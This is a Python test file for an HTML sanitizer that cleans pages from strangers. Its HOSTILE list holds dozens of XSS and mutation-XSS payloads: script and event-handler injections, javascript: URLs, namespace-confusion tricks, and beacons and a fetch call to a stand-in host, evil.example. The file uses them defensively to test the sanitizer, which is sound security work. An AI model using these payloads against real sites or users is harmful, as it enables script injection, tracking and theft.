"""Pages of strangers, cleaned: their words stay, nothing acts, loads or covers."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dispatcher.services.clean_html import cleaned
from tests.quick import quickly

HOSTILE = [
    "<script>fetch('//evil.example')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif?who=rep'>",
    "<img src=//evil.example/a.png srcset='//evil.example/b.png 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='cid:logo@mail'>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/inbox/1/close'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='#top' onclick=alert(1)>x</a>",
    "<a target=_top ping='//evil.example' href='https://ok.example'>x</a>",
    "<form action='/inbox/1/close' method=post><button>Close</button><input name=a></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<applet code=x><param name=a value=b></applet>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/seen'>",
    "<style>body{background:url(https://evil.example)}@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/p.gif)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>Sign in again</div>",
    "<div style='width:expression(alert(1));-moz-binding:url(//evil.example)'>x</div>",
    "<p style='color:white;font-size:0;display:none'>hidden</p>",
    "<body onload=alert(1) background='https://evil.example/p.gif'>x",
    "<table background='https://evil.example/p.gif'><tr><td background=//evil.example>x</table>",
    "<video poster='https://evil.example/p.gif' src=x autoplay onplay=alert(1)></video>",
    "<audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<input type=image src='https://evil.example/p.gif' autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='https://evil.example'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p id=csrf_token name=csrf_token class='btn' data-action=close hx-get='/inbox' tabindex=1>x</p>",
    "\0<scr\0ipt>alert(1)</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="https://ok.example/?x=\'><script>alert(1)</script>">x</a>',
]
ALLOWED = re.compile(
    r'<(/?[a-z0-9]+)((?: (?:dir|lang|style|href|rel|src|alt|colspan|rowspan|align|start)="[^"<>]*")*)(?: /)?>'
)


def judged(page: str) -> None:
    """Whatever stands between < and > is a tag of ours with attributes of ours, and loads nothing."""
    for tag in re.findall(r"<[^>]*>", page):
        assert ALLOWED.fullmatch(tag), tag
    names = set(re.findall(r"</?([a-z0-9]+)", page))
    assert not names & {
        "script",
        "style",
        "svg",
        "math",
        "form",
        "input",
        "button",
        "iframe",
        "object",
        "embed",
        "meta",
    }
    for address in re.findall(r'(?:src|href)="([^"]*)"', page):
        assert re.match(r"\s*(https?:|mailto:|data:image/(png|gif|jpeg|webp);base64,)", address), address
    assert not re.search(r'src="(?!data:)', page)
    assert "url(" not in "".join(re.findall(r'style="([^"]*)"', page))
    for style in re.findall(r'style="([^"]*)"', page):
        assert not re.search(r"position|width|height|z-index|color|size|display|background", style), style


@pytest.mark.parametrize("page", HOSTILE)
def test_nothing_of_it_acts_or_loads(page: str) -> None:
    found = cleaned(f"<p>before</p>{page}<p>after</p>")
    judged(found)
    assert "before" in found


@given(st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "'", '"', "<", ">", "<b ", "-->", "<!--"]), max_size=6))
def test_nor_do_they_together(pages: list[str]) -> None:
    judged(cleaned("".join(pages)))


KEPT = [
    ("<p>Sell <b>500</b> <i>now</i></p>", "<p>Sell <b>500</b> <i>now</i></p>"),
    ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
    ("<table><tr><td colspan=2 style='text-align: right; width: 9px'>42</table>",
     '<table><tbody><tr><td colspan="2" style="text-align:right">42</td></tr></tbody></table>'),
    ("<a href='https://ok.example/a?b=1'>x</a>", '<a href="https://ok.example/a?b=1" rel="noopener noreferrer">x</a>'),
    ("<a href='mailto:ana@simon.example'>x</a>", '<a href="mailto:ana@simon.example" rel="noopener noreferrer">x</a>'),
    ("<img alt='our chart' src='https://x.example/c.png'>", '<img alt="our chart">'),
    ("<img src='data:image/png;base64,iVBORw0='>", '<img src="data:image/png;base64,iVBORw0=">'),
    ("<o:p>Word's</o:p><font color=red>own</font>", "Word's" + "own"),
    ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
    ("<blockquote><div>quoted</div></blockquote>", "<blockquote><div>quoted</div></blockquote>"),
    ("", ""),
]  # fmt: skip


@pytest.mark.parametrize(("page", "found"), KEPT)
def test_what_people_write_stays(page: str, found: str) -> None:
    assert cleaned(page) == found


SLOW = [
    "<b>" * 160_000, "<div>" * 100_000, "<b><i><u><a>" * 40_000, "<font><b>" * 50_000 + "</x>" * 40_000, "<" * 500_000,
    "<a href='" + "x" * 490_000, "<table><tr><td>" * 30_000, "<svg><p>" * 50_000, "<br>" * 120_000, "&#x" * 160_000,
    "<p><b></p>" * 50_000, "<!--" * 120_000, "x" * 3_000_000,
]  # fmt: skip


@pytest.mark.parametrize("page", SLOW, ids=[one[:12] for one in SLOW])
def test_it_takes_no_longer_than_a_moment(page: str) -> None:
    quickly(lambda: cleaned(page), 1)
